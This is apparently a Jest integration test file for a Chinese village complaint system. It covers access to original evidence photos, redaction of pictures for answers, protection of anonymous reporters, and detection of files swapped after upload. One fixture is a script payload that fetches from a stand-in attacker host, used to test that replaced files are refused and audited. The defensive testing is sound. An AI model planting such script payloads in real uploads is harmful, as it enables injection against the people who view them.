import { createHash, randomUUID } from 'node:crypto';
import { openOriginal, redactEvidence } from '@shared/evidence/evidence';
import { requestAnonymousUpload, requestUpload, showMedia } from '@shared/media/media';
import { acceptReport, answerReport, showReport, submitAnonymousReport, submitReport } from '@shared/reports/reports';
import sharp from 'sharp';
import { callApi } from '../../tests/support/api';
import { everyRow } from '../../tests/support/every-row';
import { DISTRICT, NIUJIAO as VILLAGE, TOWN } from '../../tests/support/people';
import { sentPicture } from '../../tests/support/pictures';
import { originalKeyOf } from '../media/media';
import { heicOf } from '../media/testing/heic';
import { processArrival, sendFile } from '../media/testing/upload';
import { deleteObjects, getObject } from '../platform/media-bucket';
import { newSecret } from '../platform/sealed';
import { freshDistrict, type Person, personNamed } from '../reports/testing/people';

const REASON = '要核对照片是什么时候拍的';
const BOXES = [{ x: 0, y: 0, width: 5000, height: 10_000 }];

let reporter: Person;
let accused: Person;
let cadre: Person;
let township: Person;
let neighbour: Person;
let regulator: Person;

beforeAll(async () => {
  await freshDistrict();
  accused = await personNamed('王强', { role: 'cadre', division: VILLAGE });
  cadre = await personNamed('陈刚', { role: 'cadre', division: VILLAGE });
  township = await personNamed('赵敏', { role: 'township', division: TOWN });
  neighbour = await personNamed('钱多', { role: 'township', division: '511503001' });
  regulator = await personNamed('周正', { role: 'regulator', division: DISTRICT });
});

beforeEach(async () => {
  reporter = await personNamed('李秀英');
});

const photo = () =>
  sharp({ create: { width: 80, height: 40, channels: 3, background: '#c08040' } })
    .withExif({ IFD0: { Make: 'NosyPhone' } })
    .jpeg()
    .toBuffer();

const draft = {
  villageCode: VILLAGE,
  category: 'works' as const,
  description: '村口的路灯坏了三个月没人修',
  again: true as const,
};

async function reported(about: 'village' | 'cadre', bytes?: Buffer): Promise<{ reportId: string; mediaId: string }> {
  const mediaId = await sentPicture(reporter.token, bytes ?? (await photo()));
  const whom = about === 'cadre' ? { kind: about, cadreId: accused.personId } : { kind: about };
  const { status, body } = await callApi(submitReport, {
    token: reporter.token,
    body: { ...draft, mode: 'named', about: whom, mediaIds: [mediaId] },
  });
  expect(status).toBe(200);
  return { reportId: body.reportId, mediaId };
}

const open = ({ token }: Person, params: { reportId: string; mediaId: string }, key = randomUUID()) =>
  callApi(openOriginal, { token, params, body: { reason: REASON }, key });
const redact = ({ token }: Person, params: { reportId: string; mediaId: string }, key = randomUUID()) =>
  callApi(redactEvidence, { token, params, body: { boxes: BOXES }, key });
const trail = async (reportId: string) =>
  (await everyRow()).filter(({ pk, sk }) => pk === `AUDIT#report#${reportId}` && String(sk).startsWith('LINK#'));
const openings = async (reportId: string) => (await trail(reportId)).filter(({ action }) => action === 'openOriginal');

describe('an original', () => {
  test('opens for the town that handles it, as it was sent, to be saved and not shown', async () => {
    const original = await photo();
    const file = await reported('cadre', original);
    const { status, body } = await open(township, file);
    expect(status).toBe(200);
    expect(body.fileName).toMatch(/^NX\d{8}-\w{4}-1\.jpg$/);
    expect(Date.parse(body.expiresAt)).toBeLessThan(Date.now() + 125_000);
    const reply = await fetch(body.url);
    expect(Buffer.from(await reply.arrayBuffer()).equals(original)).toBe(true);
    expect(reply.headers.get('content-disposition')).toContain('attachment');
    expect(reply.headers.get('content-type')).toBe('application/octet-stream');
    expect(await openings(file.reportId)).toMatchObject([
      { actor: township.accountId, role: 'handler', note: `media#${file.mediaId} ${REASON}` },
    ]);
  });

  test('that could not be shown opens too', async () => {
    const file = await reported('cadre', Buffer.from('GIF89a of a receipt'));
    const { body: view } = await callApi(showReport, { token: township.token, params: { reportId: file.reportId } });
    expect(view.media).toEqual([{ mediaId: file.mediaId, kind: 'image', state: 'failed', failure: 'unsupported' }]);
    expect((await open(township, file)).status).toBe(200);
  });

  test('sent again is one opening; asked again is another', async () => {
    const file = await reported('cadre');
    const key = randomUUID();
    await Promise.all([open(township, file, key), open(township, file, key)]);
    await open(township, file, key);
    expect(await openings(file.reportId)).toHaveLength(1);
    await open(township, file);
    expect(await openings(file.reportId)).toHaveLength(2);
  });

  test('is not there for a village, an accused, another town, or who sent it', async () => {
    const ofCadre = await reported('cadre');
    for (const who of [accused, cadre, neighbour, reporter])
      expect([404, 403]).toContain((await open(who, ofCadre)).status);
    const ofVillage = await reported('village');
    expect((await open(cadre, ofVillage)).status).toBe(403);
    expect((await open(township, ofVillage)).status).toBe(404);
    expect((await open(regulator, ofVillage)).status).toBe(200);
    for (const reportId of [ofCadre.reportId, ofVillage.reportId])
      expect((await openings(reportId)).map(({ actor }) => actor)).not.toContain(cadre.accountId);
  });

  test('of another report, or of nobody, is not found', async () => {
    const [one, other] = [await reported('cadre'), await reported('cadre')];
    expect((await open(township, { reportId: one.reportId, mediaId: other.mediaId })).status).toBe(404);
    const loose = await sentPicture(reporter.token, await photo());
    expect((await open(township, { reportId: one.reportId, mediaId: loose })).status).toBe(404);
    await deleteObjects([originalKeyOf(one.mediaId)]);
    expect((await open(township, one)).status).toBe(404);
    expect(await openings(one.reportId)).toEqual([]);
  });

  test('of one who hid opens for the district alone', async () => {
    const draftKey = newSecret();
    const bytes = await photo();
    const { body: ticket } = await callApi(requestAnonymousUpload, {
      body: { kind: 'image', contentType: 'image/jpeg', bytes: bytes.length, draftKey },
    });
    await sendFile(ticket, bytes);
    const about = { kind: 'cadre' as const, cadreId: accused.personId };
    const { body: receipt } = await callApi(submitAnonymousReport, {
      body: { ...draft, about, mediaIds: [ticket.mediaId], draftKey },
    });
    const file = { reportId: receipt.reportId, mediaId: ticket.mediaId };
    expect((await open(township, file)).status).toBe(404);
    expect((await open(regulator, file)).status).toBe(200);
    const seen = async ({ token }: Person) =>
      (await callApi(showReport, { token, params: { reportId: file.reportId } })).body.evidence;
    expect(await seen(township)).toEqual({ mayOpen: false, mayRedact: true });
    expect(await seen(regulator)).toEqual({ mayOpen: true, mayRedact: false });
  });
});

describe('a picture with something painted over', () => {
  const pixels = async (url: string) => {
    const copy = sharp(Buffer.from(await (await fetch(url)).arrayBuffer()));
    const { data, info } = await copy.raw().toBuffer({ resolveWithObject: true });
    return (x: number, y: number) => [...data.subarray((y * info.width + x) * 3, (y * info.width + x) * 3 + 3)];
  };

  test('is a new one: shown in the answer, while the report’s own stays as it was', async () => {
    const original = await photo();
    const file = await reported('cadre', original);
    const { status, body: ordered } = await redact(township, file);
    expect([status, ordered.state]).toEqual([200, 'awaiting']);
    await processArrival(ordered.mediaId);
    const { body: view } = await callApi(showReport, { token: township.token, params: { reportId: file.reportId } });
    await callApi(acceptReport, {
      token: township.token,
      params: { reportId: file.reportId },
      body: { version: view.version },
    });
    const { status: answered } = await callApi(answerReport, {
      token: township.token,
      params: { reportId: file.reportId },
      body: { version: view.version + 1, text: '路灯已经换新，昨天晚上亮了。', mediaIds: [ordered.mediaId] },
    });
    expect(answered).toBe(200);
    const { body: seen } = await callApi(showReport, { token: reporter.token, params: { reportId: file.reportId } });
    expect(seen.answer?.media).toMatchObject([{ mediaId: ordered.mediaId, state: 'ready' }]);
    const painted = await pixels(seen.answer!.media[0]!.url!);
    expect(Math.max(...painted(10, 20))).toBeLessThan(60);
    expect(Math.max(...painted(70, 20))).toBeGreaterThan(150);
    const own = await pixels(seen.media[0]!.url!);
    expect(Math.max(...own(10, 20))).toBeGreaterThan(150);
    expect((await getObject(originalKeyOf(file.mediaId))).equals(original)).toBe(true);
    expect((await trail(file.reportId)).map(({ action }) => action)).toContain('redactEvidence');
  });

  test('of a HEIC is made like any', async () => {
    const file = await reported('village', heicOf());
    const { body } = await redact(cadre, file);
    await processArrival(body.mediaId);
    const { body: view } = await callApi(showMedia, { token: cadre.token, params: { mediaId: body.mediaId } });
    expect(view).toMatchObject({ state: 'ready', width: 64, height: 64 });
    const painted = await pixels(view.url!);
    expect([Math.max(...painted(5, 5)) < 60, Math.max(...painted(60, 5)) > 150]).toEqual([true, true]);
  });

  test('answers no other report', async () => {
    const [one, other] = [await reported('cadre'), await reported('cadre')];
    const { body } = await redact(township, one);
    await processArrival(body.mediaId);
    const { body: view } = await callApi(showReport, { token: township.token, params: { reportId: other.reportId } });
    const answer = await callApi(answerReport, {
      token: township.token,
      params: { reportId: other.reportId },
      body: { version: view.version, text: '路灯已经换新，昨天晚上亮了。', mediaIds: [body.mediaId] },
    });
    expect(answer.status).toBe(404);
  });

  test('sent again is one; nobody but who handles it can make one', async () => {
    const file = await reported('cadre');
    const key = randomUUID();
    const [first, second] = await Promise.all([redact(township, file, key), redact(township, file, key)]);
    expect(first.body.mediaId).toBe(second.body.mediaId);
    for (const who of [accused, cadre, neighbour, regulator]) expect((await redact(who, file)).status).toBe(404);
    expect((await redact(township, { ...file, mediaId: first.body.mediaId })).status).toBe(404);
  });
});

describe('a ticket works again for minutes, and what it puts in place of a file', () => {
  const SCRIPT = Buffer.from('<script>fetch("//evil.example")</script>');

  /** A picture with its ticket, sent and, if so wished, looked at. */
  async function ticketed({ token }: Person, bytes: Buffer, looked = true) {
    const body = { kind: 'image' as const, contentType: 'image/jpeg' as const, bytes: 10_000 };
    const { body: ticket } = await callApi(requestUpload, { token, body });
    expect(await sendFile(ticket, bytes)).toMatchObject({ status: 201 });
    if (looked) await processArrival(ticket.mediaId);
    return ticket;
  }
  const submit = (mediaId: string, about: object = { kind: 'cadre', cadreId: accused.personId }) =>
    callApi(submitReport, { token: reporter.token, body: { ...draft, mode: 'named', about, mediaIds: [mediaId] } });
  const marks = async (reportId: string, { token }: Person) =>
    (await callApi(showReport, { token, params: { reportId } })).body.media.map(({ replaced }) => replaced);
  const audited = async (mediaId: string) =>
    (await everyRow()).filter(({ pk, action }) => pk === `AUDIT#media#${mediaId}` && action === 'refuseReplaced');
  const logged = () => {
    const lines: string[] = [];
    const spy = jest.spyOn(process.stdout, 'write').mockImplementation((chunk) => (lines.push(String(chunk)), true));
    return { alarms: () => lines.filter((line) => line.includes('mediaReplaced')), stop: () => spy.mockRestore() };
  };

  test.each([true, false])('is not opened, and it is told and kept (storage told of it: %s)', async (told) => {
    const original = await photo();
    const ticket = await ticketed(reporter, original);
    const { body: receipt } = await submit(ticket.mediaId);
    const sha256 = createHash('sha256').update(original).digest('hex');
    expect(receipt.files).toEqual([{ kind: 'image', sha256 }]);
    const file = { reportId: receipt.reportId, mediaId: ticket.mediaId };
    expect((await open(township, file)).status).toBe(200);
    expect(await sendFile(ticket, SCRIPT)).toMatchObject({ status: 201 });
    const log = logged();
    if (told) await processArrival(ticket.mediaId);
    const { status, body } = await open(township, file);
    log.stop();
    expect([status, body.code, body.url]).toEqual([409, 'media.replaced', undefined]);
    expect(log.alarms().length).toBeGreaterThan(0);
    for (const secret of [reporter.accountId, reporter.personId, '李秀英', 'script'])
      expect(log.alarms().join()).not.toContain(secret);
    expect(await audited(ticket.mediaId)).toHaveLength(1);
    expect((await trail(file.reportId)).map(({ action }) => action)).toContain('refuseReplaced');
    // Whoever handles it and whoever sent it see the mark; the copy still is of what was sent.
    expect(await marks(file.reportId, township)).toEqual([true]);
    expect(await marks(file.reportId, reporter)).toEqual([true]);
    const { body: view } = await callApi(showReport, { token: reporter.token, params: { reportId: file.reportId } });
    expect(view.media[0]).toMatchObject({ state: 'ready', sha256, width: 80, height: 40 });
    // What the bytes were is for who sent them: to others it would tell who once had the same picture.
    const { body: office } = await callApi(showReport, { token: township.token, params: { reportId: file.reportId } });
    expect(JSON.stringify(office)).not.toContain(sha256);
  });

  test('is not painted over for an answer', async () => {
    const ticket = await ticketed(reporter, await photo());
    const { body: receipt } = await submit(ticket.mediaId);
    await sendFile(
      ticket,
      await sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
        .jpeg()
        .toBuffer(),
    );
    const { body: ordered } = await redact(township, { reportId: receipt.reportId, mediaId: ticket.mediaId });
    await processArrival(ordered.mediaId);
    const { body: made } = await callApi(showMedia, { token: township.token, params: { mediaId: ordered.mediaId } });
    expect(made).toEqual({ mediaId: ordered.mediaId, kind: 'image', state: 'failed', failure: 'replaced' });
    expect(await marks(receipt.reportId, township)).toEqual([true]);
  });

  test('is not looked at, where it came before the file was', async () => {
    const ticket = await ticketed(reporter, await photo(), false);
    const { body: receipt } = await submit(ticket.mediaId);
    await sendFile(
      ticket,
      await sharp({ create: { width: 9, height: 9, channels: 3, background: 'red' } })
        .jpeg()
        .toBuffer(),
    );
    const file = { reportId: receipt.reportId, mediaId: ticket.mediaId };
    expect((await open(township, file)).body.code).toBe('media.replaced');
    await processArrival(ticket.mediaId);
    const { body: view } = await callApi(showReport, { token: township.token, params: { reportId: file.reportId } });
    expect(view.media).toEqual([
      { mediaId: ticket.mediaId, kind: 'image', state: 'failed', failure: 'replaced', replaced: true },
    ]);
    expect((await open(township, file)).body.code).toBe('media.replaced');
  });

  test('is not attached, where it came before the report', async () => {
    const ticket = await ticketed(reporter, await photo());
    await sendFile(ticket, SCRIPT);
    for (const told of [false, true]) {
      if (told) await processArrival(ticket.mediaId);
      const { status, body } = await submit(ticket.mediaId);
      expect([status, body.code]).toEqual([409, 'media.replaced']);
    }
  });

  test('is the same file, when it is the same bytes: an answer that was lost is no attack', async () => {
    const original = await photo();
    const ticket = await ticketed(reporter, original);
    await sendFile(ticket, original);
    await processArrival(ticket.mediaId);
    const { body: receipt } = await submit(ticket.mediaId);
    await sendFile(ticket, original);
    await processArrival(ticket.mediaId);
    expect((await open(township, { reportId: receipt.reportId, mediaId: ticket.mediaId })).status).toBe(200);
    expect(await marks(receipt.reportId, township)).toEqual([undefined]);
  });

  test('does not reach what was opened: that is a copy nobody has a ticket for, and it says nothing of when the file came', async () => {
    const original = await photo();
    const ticket = await ticketed(reporter, original);
    const { body: receipt } = await submit(ticket.mediaId);
    await new Promise((done) => setTimeout(done, 1100));
    const before = Math.floor(Date.now() / 1000) * 1000;
    const { body: opened } = await open(township, { reportId: receipt.reportId, mediaId: ticket.mediaId });
    await sendFile(ticket, SCRIPT);
    const reply = await fetch(opened.url);
    expect(Buffer.from(await reply.arrayBuffer()).equals(original)).toBe(true);
    expect(Date.parse(reply.headers.get('last-modified')!)).toBeGreaterThanOrEqual(before);
    const { body: view } = await callApi(showReport, { token: township.token, params: { reportId: receipt.reportId } });
    for (const url of [view.media[0]!.url!, view.media[0]!.posterUrl!])
      expect(Date.parse((await fetch(url)).headers.get('last-modified')!)).toBeGreaterThanOrEqual(before);
  });
});
